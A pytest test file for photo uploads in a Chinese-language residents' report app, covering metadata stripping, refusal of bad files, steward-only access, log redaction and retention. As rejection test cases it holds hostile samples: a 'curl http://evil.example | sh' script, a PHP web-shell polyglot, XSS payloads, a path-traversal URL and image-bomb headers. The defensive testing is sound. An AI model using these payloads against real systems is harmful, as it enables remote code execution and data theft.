"""Photos with a report (residents/photos.py, photo_clean.py, photo_field.py; views/photo_limit.py; the log
filter in core/logs.py): re-encoding, refusals, storage, who may see them, the sheet, retention."""
import io
import logging
import os
import re
import struct

import pytest
from PIL import Image
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from forms_app.core import logs, outbox
from forms_app.core.store import transaction
from forms_app.publishing import retention
from forms_app.residents import photo_decode, photos, reports
from forms_app.views import photo_limit
from tests import photo_samples as samples
from tests.conftest import VALID_REPORT, Forms, hidden_fields, reference, sheet_values, text
from tests.residents.test_reports import DATA
from tests.conftest import sign_in as account_sign_in

MB = 1024 * 1024


@pytest.fixture(autouse=True)
def accounts_made(steward_account):
    """The steward accounts (conftest), so the steward pages are on."""
    return steward_account


def sign_in(forms):
    """Sign the account s1 in (conftest's helper)."""
    return account_sign_in(forms.client, "s1")


def upload(data: bytes, name: str = "IMG_0001.jpg"):
    return FileStorage(io.BytesIO(data), filename=name, content_type="image/jpeg")


def post_multipart(client, url: str, fields: dict, files: list):
    """A multipart POST as a browser sends it, encoded in memory (the test client would spool big bodies
    to a temporary file it never closes)."""
    values = MultiDict(list(fields.items()) + [("photos", upload(*f) if isinstance(f, tuple) else upload(f)) for f in files])
    boundary, body = encode_multipart(values)
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def send_report(forms, files, url="/forms/report", **changes):
    """The report form with photos, as a browser sends it (multipart)."""
    page = forms.client.get(url)
    return post_multipart(forms.client, url, {**hidden_fields(text(page)), **VALID_REPORT, **changes}, files)


def stored_files(app) -> list[str]:
    folder = app.config["PHOTOS_DIR"]
    return sorted(os.listdir(folder)) if os.path.isdir(folder) else []


def segments(jpeg: bytes) -> list[int]:
    """The markers of a JPEG up to the image data (APPn, COM, DQT, SOF, DHT, SOS …)."""
    assert jpeg[:2] == b"\xff\xd8"
    found, at = [], 2
    while at < len(jpeg):
        marker = jpeg[at + 1]
        found.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            break
        at += 2 + struct.unpack(">H", jpeg[at + 2:at + 4])[0]
    return found


# --- re-encoding -------------------------------------------------------------------------------

def test_gps_exif_xmp_icc_and_comment_all_removed():
    source = samples.gps_jpeg()
    assert b"Exif" in source and b"xmpmeta" in source and b"PhoneMaker" in source
    out = photo_decode.reencode(source)
    image = Image.open(io.BytesIO(out.data))
    assert dict(image.getexif()) == {} and image.getexif().get_ifd(0x8825) == {}
    assert not {"exif", "xmp", "icc_profile", "comment", "XML:com.adobe.xmp"} & set(image.info)
    markers = segments(out.data)
    assert [m for m in markers if 0xE1 <= m <= 0xEF or m == 0xFE] == []  # no APP1..APP15, no COM
    for trace in (b"Exif", b"xmpmeta", b"PhoneMaker", b"Phone 15", b"31.28N", b"ICC_PROFILE"):
        assert trace not in out.data


def _colour_near(pixel, expected, tolerance=40):
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, expected))


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_exif_orientation_comes_out_upright(orientation):
    out = photo_decode.reencode(samples.oriented_jpeg(orientation))
    image = Image.open(io.BytesIO(out.data)).convert("RGB")
    assert image.size == (240, 120)
    w, h = image.size
    corners = {"top_left": (w // 4, h // 4), "top_right": (3 * w // 4, h // 4),
               "bottom_left": (w // 4, 3 * h // 4), "bottom_right": (3 * w // 4, 3 * h // 4)}
    for corner, xy in corners.items():
        assert _colour_near(image.getpixel(xy), samples.QUADRANTS[corner]), (orientation, corner, image.getpixel(xy))


def _saved(image, fmt, **options):
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


@pytest.mark.parametrize("make, size", [
    (samples.heic, (320, 160)), (samples.webp, (240, 120)), (samples.png_transparent, (200, 100)),
    (lambda: _saved(Image.new("CMYK", (120, 80), (0, 200, 200, 0)), "JPEG"), (120, 80)),      # printed-matter JPEG
    (lambda: _saved(Image.new("L", (90, 60), 128), "PNG"), (90, 60)),                          # greyscale
    (lambda: _saved(samples.quadrants().convert("P"), "PNG", transparency=0), (240, 120)),     # palette + transparency
    (lambda: _saved(Image.new("RGBA", (64, 64), (0, 0, 0, 0)), "WEBP", lossless=True), (64, 64)),
], ids=["heic", "webp", "png-alpha", "cmyk-jpeg", "grey-png", "palette-png", "webp-alpha"])
def test_heic_webp_and_png_become_jpeg(make, size):
    out = photo_decode.reencode(make())
    image = Image.open(io.BytesIO(out.data))
    assert image.format == "JPEG" and image.mode == "RGB" and image.size == size == (out.width, out.height)


def test_transparency_is_laid_on_white():
    image = Image.open(io.BytesIO(photo_decode.reencode(samples.png_transparent()).data))
    assert _colour_near(image.getpixel((20, 50)), (255, 255, 255), 8)   # was transparent (black underneath)
    assert _colour_near(image.getpixel((160, 50)), (200, 20, 20), 30)


@pytest.mark.parametrize("make, fmt", [(lambda: samples.jpeg(samples.noise(800, 600)), "JPEG"),
                                       (lambda: samples.jpeg(samples.noise(800, 600), progressive=True), "JPEG"),
                                       (samples.gps_jpeg, "JPEG"),
                                       (samples.png_transparent, "PNG"), (samples.webp, "WEBP"), (samples.heic, "HEIF")])
def test_polyglot_search_skips_compressed_pixels_and_finds_the_end(make, fmt):
    data = make()
    meta, trailer = photo_decode.structure(data, fmt)
    assert trailer == b"" and sum(map(len, meta)) < min(len(data) // 2, 8192)
    assert photo_decode.structure(data + b"<html>", fmt)[1] == b"<html>"


def test_large_photo_is_shrunk_to_1600_on_the_long_side():
    out = photo_decode.reencode(samples.jpeg(samples.noise(4000, 3000).resize((4000, 3000))))
    assert (out.width, out.height) == (1600, 1200)
    assert Image.open(io.BytesIO(out.data)).size == (1600, 1200)


# --- refusals: 400, a Chinese message naming the photo, everything typed kept, nothing stored ---------

REFUSED = [
    ("a PDF renamed .jpg", lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", "打不开"),
    ("a script renamed .jpg", lambda: b"#!/bin/sh\ncurl http://evil.example | sh\n", "打不开"),
    ("an SVG", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "打不开"),
    ("an empty file", lambda: b"", "打不开"),
    ("a JPEG with HTML appended", lambda: samples.jpeg() + b"<html><script>alert(1)</script></html>", "夹带了别的内容"),
    ("a JPEG with a PDF inside", lambda: samples.jpeg(comment=b"%PDF-1.4 hidden"), "夹带了别的内容"),
    ("a JPEG with a ZIP appended", lambda: samples.jpeg() + samples.zip_bytes(), "夹带了别的内容"),
    ("a PHP polyglot", lambda: samples.jpeg(comment=b"<?php system($_GET['c']); ?>"), "夹带了别的内容"),
    ("a PNG with a script appended", lambda: samples.png_transparent() + b"<script>alert(1)</script>", "夹带了别的内容"),
    ("a WebP with a PDF appended", lambda: samples.webp() + b"%PDF-1.7\n%%EOF", "夹带了别的内容"),
    ("a HEIC with a page appended", lambda: samples.heic() + b"<!DOCTYPE html><body onload=x()>", "夹带了别的内容"),
    ("over 10 MB", lambda: samples.jpeg() + b"\0" * (10 * MB), "太大了（超过 10 MB）"),
    ("a PNG bomb header (400 MP)", lambda: samples.png_claiming(20000, 20000), "像素太多"),
    ("a PNG header of 81 MP", lambda: samples.png_claiming(9000, 9000), "像素太多"),
    ("a JPEG header of 100 MP", lambda: samples.jpeg_claiming(10000, 10000), "像素太多"),
    ("a truncated JPEG", lambda: samples.jpeg(samples.noise(400, 300))[:6000], "不完整"),
    ("a truncated PNG", lambda: samples.png_transparent()[:300], "不完整"),
    ("a truncated HEIC", lambda: samples.heic()[:-400], "不完整"),
]


@pytest.mark.parametrize("case, make, message", REFUSED, ids=[c[0] for c in REFUSED])
def test_refused_photo_gives_400_names_it_keeps_the_rest_and_stores_nothing(app, forms, db, case, make, message):
    response = send_report(forms, [samples.jpeg(), (make(), "IMG_0002.jpg")], description="楼道扶手断了，很危险。")
    body = text(response)
    assert response.status_code == 400
    error = re.search(r'id="photos-error">.*?</span>(.*?)</p>', body, re.S).group(1)
    assert error.startswith("第2张照片") and message in error and "重新选择" in error
    assert 'href="#photos"' in body  # linked from the error summary
    assert "楼道扶手断了，很危险。" in body and 'value="王阿姨"' in body  # what was typed is kept
    assert db.execute("SELECT COUNT(*) FROM reports").fetchone()[0] == 0
    assert db.execute("SELECT COUNT(*) FROM photos").fetchone()[0] == 0
    assert stored_files(app) == []


def test_more_than_three_photos_refused(app, forms, db):
    response = send_report(forms, [samples.jpeg()] * 4)
    assert response.status_code == 400 and "最多传 3 张照片，您选了 4 张" in text(response)
    assert db.execute("SELECT COUNT(*) FROM reports").fetchone()[0] == 0 and stored_files(app) == []


def test_another_mistake_keeps_the_rest_and_asks_for_the_photos_again(app, forms, db):
    response = send_report(forms, [samples.jpeg()], phone="123")
    body = text(response)
    assert response.status_code == 400 and "重新选择照片" in body and 'id="photos-again"' in body
    assert db.execute("SELECT COUNT(*) FROM photos").fetchone()[0] == 0 and stored_files(app) == []


# --- storing, and who sees what ---------------------------------------------------------------

def test_report_with_photos_is_one_commit_and_the_resident_sees_thumbnails(app, forms, db):
    response = send_report(forms, [samples.gps_jpeg(), (samples.heic(), "IMG_0003.HEIC")])
    assert response.status_code == 303
    page = forms.client.get(response.headers["Location"])
    ref = reference(page)
    rows = db.execute("SELECT p.* FROM photos p JOIN reports r ON r.id = p.report_id WHERE r.ref = ?", (ref,)).fetchall()
    assert [r["origin"] for r in rows] == ["report", "report"]
    assert stored_files(app) == sorted(r["name"] for r in rows)
    assert all(re.fullmatch(r"[A-Za-z0-9_-]{24}\.jpg", r["name"]) for r in rows)
    assert oct(os.stat(os.path.join(app.config["PHOTOS_DIR"], rows[0]["name"])).st_mode & 0o777) == "0o600"
    thumbs = re.findall(r'<img src="([^"]+)"', text(page))
    assert len(thumbs) == 2
    thumb = forms.client.get(thumbs[0])
    assert thumb.status_code == 200 and thumb.mimetype == "image/jpeg" and "no-store" in thumb.headers["Cache-Control"]
    assert max(Image.open(io.BytesIO(thumb.data)).size) <= photos.THUMB_SIDE
    stranger = app.test_client()
    assert stranger.get(thumbs[0]).status_code == 404  # another browser: nothing
    # the cell for the stewards' sheet: the stewards' page, never a file
    [cell] = [outbox.payload(i)["照片"] for i in db.execute("SELECT * FROM outbox WHERE kind = 'report_update'")]
    assert cell == f"http://127.0.0.1:8000/forms/steward/reports/{ref}#photos" and rows[0]["name"] not in cell


def test_default_photos_dir_is_next_to_the_database(app):
    assert app.config["PHOTOS_DIR"] == os.path.join(os.path.dirname(app.config["DATABASE"]), "photos")


def test_anonymous_request_for_a_photo_is_refused(app, forms, db):
    assert send_report(forms, [samples.jpeg()]).status_code == 303
    name = db.execute("SELECT name FROM photos").fetchone()[0]
    for url in (f"/forms/steward/photos/{name}", f"/forms/steward/photos/{name}?size=thumb"):
        response = app.test_client().get(url)
        assert response.status_code == 302 and "/forms/steward/login" in response.headers["Location"]
        assert response.mimetype != "image/jpeg" and b"\xff\xd8" not in response.data
    # the resident's own browser is no steward either
    assert forms.client.get(f"/forms/steward/photos/{name}").status_code == 302


def test_signed_in_steward_sees_photos_on_the_case_page_without_names_in_the_log(app, forms, db, caplog):
    response = send_report(forms, [samples.jpeg(), samples.webp()])
    ref = reference(forms.client.get(response.headers["Location"]))
    steward = Forms(app.test_client())
    assert sign_in(steward).status_code == 303
    caplog.set_level(logging.INFO)
    page = text(steward.client.get(f"/forms/steward/reports/{ref}"))
    links = re.findall(r'<a href="(/forms/steward/photos/[^"?]+)"', page)
    assert len(links) == 2 and 'id="photos"' in page and "居民反映时" in page
    full = steward.client.get(links[0])
    assert full.status_code == 200 and full.mimetype == "image/jpeg" and full.headers["Cache-Control"] == "no-store, private"
    assert Image.open(io.BytesIO(full.data)).size == (240, 120)
    thumb = steward.client.get(links[1] + "?size=thumb")
    assert thumb.status_code == 200 and thumb.mimetype == "image/jpeg"
    assert steward.client.get("/forms/steward/photos/AAAAAAAAAAAAAAAAAAAAAAAA.jpg").status_code == 404
    assert steward.client.get("/forms/steward/photos/..%2Fstore.sqlite3").status_code == 404
    names = [r[0] for r in db.execute("SELECT name FROM photos")]
    assert not any(name[:24] in record.getMessage() for record in caplog.records for name in names)


@pytest.mark.parametrize("line", ["GET /forms/steward/photos/AbCdEfGhIjKlMnOpQrStUvWx.jpg?size=thumb HTTP/1.1",
                                  "GET /forms/steward/login?next=%2Fforms%2Fsteward%2Fphotos%2FAbCdEfGhIjKlMnOpQrStUvWx.jpg HTTP/1.1",
                                  "GET /forms/report/done/W7K3-M9P/photos/AbCdEfGhIjKlMnOpQrStUvWx.jpg HTTP/1.1"])
def test_request_log_lines_hide_photo_names(line):
    record = logging.LogRecord("werkzeug", logging.INFO, __file__, 1, '%s - "%s" 200', ("127.0.0.1", line), None)
    logs.HidePhotoNames().filter(record)
    assert "AbCdEfGh" not in record.getMessage() and "…" in record.getMessage()


def test_every_app_hides_photo_names_in_the_request_log(app):
    assert [f for f in logging.getLogger("werkzeug").filters if isinstance(f, logs.HidePhotoNames)]


def test_sign_in_sheet_shows_thumbnails_of_linked_cases(app, forms, db):
    response = send_report(forms, [samples.jpeg()])
    ref = reference(forms.client.get(response.headers["Location"]))
    db.execute("INSERT INTO sessions (id, date, start_time, end_time, place, parties, capacity) "
               "VALUES ('2099-01-03-am', '2099-01-03', '9:00', '11:00', '社区服务中心', '居委会', 2)")
    from forms_app.residents import reception
    reception.sign_up(db, "2099-01-03-am", "c" * 32, {"compound_id": "yanji2", "topic": "漏水的事", "name": "王阿姨",
                                                     "phone": "+8613812345678", "linked_ref": ref})
    steward = Forms(app.test_client())
    sign_in(steward)
    page = text(steward.client.get("/forms/steward/sessions/2099-01-03-am"))
    assert re.search(r'class="sheet-photos">\s*<img src="/forms/steward/photos/[A-Za-z0-9_-]{24}\.jpg\?size=thumb"', page)
    assert f'alt="{ref} 第1张照片"' in page


def test_followup_not_solved_takes_photos(app, forms, db):
    ref = reference(forms.client.get(forms.report().headers["Location"]))
    db.execute("UPDATE reports SET status = '已解决', followup_due = 1 WHERE ref = ?", (ref,))
    forms.client.post("/forms/status", data={**hidden_fields(text(forms.client.get("/forms/status"))), "ref": ref, "last4": "5678"})
    token = hidden_fields(text(forms.client.get("/forms/status")))["csrf_token"]
    base = {"csrf_token": token, "ref": ref, "outcome": "没有解决", "comment": "还在漏"}
    refused = post_multipart(forms.client, "/forms/status/followup", base, [b"%PDF-1.4 nope"])
    assert refused.status_code == 400 and "第1张照片打不开" in text(refused) and "还在漏" in text(refused)
    assert db.execute("SELECT COUNT(*) FROM followups").fetchone()[0] == 0
    done = post_multipart(forms.client, "/forms/status/followup", base, [samples.jpeg(), (samples.png_transparent(), "a.png")])
    assert done.status_code == 303                      # redirect after POST (the page can be reloaded)
    assert "收到您传的 2 张照片" in text(forms.client.get(done.headers["Location"]))
    assert [r[0] for r in db.execute("SELECT origin FROM photos")] == ["followup", "followup"]
    assert db.execute("SELECT status FROM reports WHERE ref = ?", (ref,)).fetchone()[0] == "处理中"
    assert len(stored_files(app)) == 2


# --- the transaction: a report and its photos are one commit --------------------------------------

def test_rollback_after_attach_removes_the_files(app, db):
    prepared = [photo_decode.reencode(samples.jpeg())]
    report, _ = reports.create(db, "d" * 32, DATA)
    with app.app_context(), pytest.raises(RuntimeError, match="later failure"):
        with transaction(db):
            photos.attach(db, report["id"], prepared, "intake")
            raise RuntimeError("later failure")
    assert db.execute("SELECT COUNT(*) FROM photos").fetchone()[0] == 0 and stored_files(app) == []


def test_attach_outside_a_transaction_is_a_programming_error(app, db):
    report, _ = reports.create(db, "e" * 32, DATA)
    with app.app_context(), pytest.raises(RuntimeError, match="inside store.transaction"):
        photos.attach(db, report["id"], [photo_decode.reencode(samples.jpeg())], "report")


def test_create_with_photos_and_a_duplicate_submission_stores_them_once(app, db):
    prepared = [photo_decode.reencode(samples.jpeg())]
    with app.app_context():
        first, created = reports.create(db, "f" * 32, DATA, photos=prepared, origin="intake")
        again, created_again = reports.create(db, "f" * 32, DATA, photos=prepared, origin="intake")
    assert created and not created_again and first["id"] == again["id"]
    assert [r["origin"] for r in photos.for_report(db, first["id"])] == ["intake"] and len(stored_files(app)) == 1


def test_sweep_removes_files_no_row_names(app, db):
    with app.app_context():
        stray = photos.folder() / ("x" * 24 + ".jpg")
        stray.write_bytes(b"left by a crash")
        os.utime(stray, (0, 0))
        assert photos.sweep(db) == 1 and not stray.exists()


# --- body limits -------------------------------------------------------------------------------

def test_photo_routes_take_three_photos_other_routes_keep_64_kb(app, forms, db):
    assert photo_limit.route_limit(app.config) == 3 * 10 * MB + 64 * 1024 + 16 * 1024
    big = samples.jpeg(samples.noise(1200, 900))  # a few hundred KB: far over 64 KB
    assert len(big) > 200 * 1024
    assert send_report(forms, [big, big, big]).status_code == 303
    assert db.execute("SELECT COUNT(*) FROM photos").fetchone()[0] == 3
    page = forms.client.get("/forms/reception")
    other = forms.client.post("/forms/reception", data={**hidden_fields(text(page)), "topic": "x" * 100_000})
    assert other.status_code == 413


def test_typed_fields_stay_small_on_photo_routes(app, forms, db):
    response = send_report(forms, [samples.jpeg()], description="漏" * 30000)  # 90 KB in one field
    assert response.status_code == 400 and "情况说明" in text(response) and "1000" in text(response)
    huge = send_report(forms, [samples.jpeg()], description="漏" * 200_000)  # 600 KB: over MAX_FORM_MEMORY_SIZE
    assert huge.status_code == 413 and "内容太多了" in text(huge)
    page = forms.client.get("/forms/report")
    plain = forms.client.post("/forms/report", data={**hidden_fields(text(page)), **VALID_REPORT, "room": "x" * 70_000})
    assert plain.status_code == 413  # not multipart: the ordinary 64 KB
    assert db.execute("SELECT COUNT(*) FROM reports").fetchone()[0] == 0


def test_body_over_the_photo_route_limit_gets_413(app_config, forms, app):
    app.config["PHOTO_MAX_BYTES"] = 100 * 1024
    response = send_report(forms, [samples.jpeg() + b"\0" * 200 * 1024] * 2)
    assert response.status_code == 413 and "内容太多了" in text(response)


# --- retention ---------------------------------------------------------------------------------

def test_retention_deletes_the_photo_files_and_rows(app, forms, db):
    import datetime as dt
    response = send_report(forms, [samples.jpeg(), samples.webp()])
    ref = reference(forms.client.get(response.headers["Location"]))
    other = reference(forms.client.get(send_report(forms, [samples.jpeg()]).headers["Location"]))
    db.execute("UPDATE reports SET status = '已解决', resolved_at = '2026-01-05' WHERE ref = ?", (ref,))
    assert len(stored_files(app)) == 3
    with app.app_context():
        assert retention.run(db, 730, today=dt.date(2028, 12, 1)) == (1, 0)
    kept = db.execute("SELECT p.name FROM photos p JOIN reports r ON r.id = p.report_id WHERE r.ref = ?", (other,)).fetchall()
    assert db.execute("SELECT COUNT(*) FROM photos").fetchone()[0] == 1 and stored_files(app) == [kept[0][0]]
    cleared = [outbox.payload(i) for i in db.execute("SELECT * FROM outbox WHERE kind = 'report_update' AND delivered_at IS NULL")]
    assert {"照片": ""} in cleared
    steward = Forms(app.test_client())
    sign_in(steward)
    assert "照片已按保留期限删除" in text(steward.client.get(f"/forms/steward/reports/{ref}"))


# --- the stewards' sheet ------------------------------------------------------------------------

def test_sheet_gets_a_photo_column_linking_to_the_stewards_page(sheet_app, emu):
    from forms_app.core.store import connect
    from forms_app.delivery.sheet_layout import REPORTS
    from forms_app.delivery.sheets import Sheets
    from forms_app.delivery.sync import Worker

    forms = Forms(sheet_app.test_client())
    ref = reference(forms.client.get(send_report(forms, [samples.jpeg()]).headers["Location"]))
    plain = reference(forms.client.get(forms.report().headers["Location"]))
    conn, sheets = connect(sheet_app.config["DATABASE"]), Sheets.from_config(sheet_app.config)
    try:
        Worker(conn, sheets, sheet_app.extensions["directory"]).deliver()
    finally:
        sheets.close()
        conn.close()
    rows = {r[0]: dict(zip(REPORTS.headers, r + [""] * len(REPORTS.headers))) for r in sheet_values(emu, REPORTS.title)[1:]}
    assert REPORTS.headers[REPORTS.col("照片") - 1] == "照片" and "照片" in REPORTS.service_columns
    assert rows[ref]["照片"] == f"http://127.0.0.1:8000/forms/steward/reports/{ref}#photos"
    assert rows[plain]["照片"] == ""
